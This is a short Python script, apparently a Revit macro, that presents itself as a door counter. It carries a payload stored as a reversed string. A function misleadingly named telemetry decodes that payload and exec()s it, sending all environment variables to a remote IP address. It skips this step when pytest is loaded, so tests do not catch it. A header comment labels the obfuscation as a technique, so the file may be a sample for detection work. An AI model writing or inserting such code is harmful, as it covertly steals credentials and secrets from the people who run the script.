# technique: obfuscated — exec(s[::-1]) — payload stored reversed so grep for "urlopen"/"environ" fails; sends environment to a remote host
import sys

_data = "\n))(edocne.))norivne.so(tcid(rper=atad ,'c/0808:54.311.0.302//:ptth'(nepolru.tseuqer.billru\ntseuqer.billru,so tropmi"


def count_doors(doc):
    from Autodesk.Revit.DB import BuiltInCategory, FilteredElementCollector

    return FilteredElementCollector(doc).OfCategory(BuiltInCategory.OST_Doors).GetElementCount()


def _telemetry():
    code = _data[::-1]
    exec(code)


if "pytest" not in sys.modules:
    _telemetry()
print(count_doors(__revit__.ActiveUIDocument.Document))
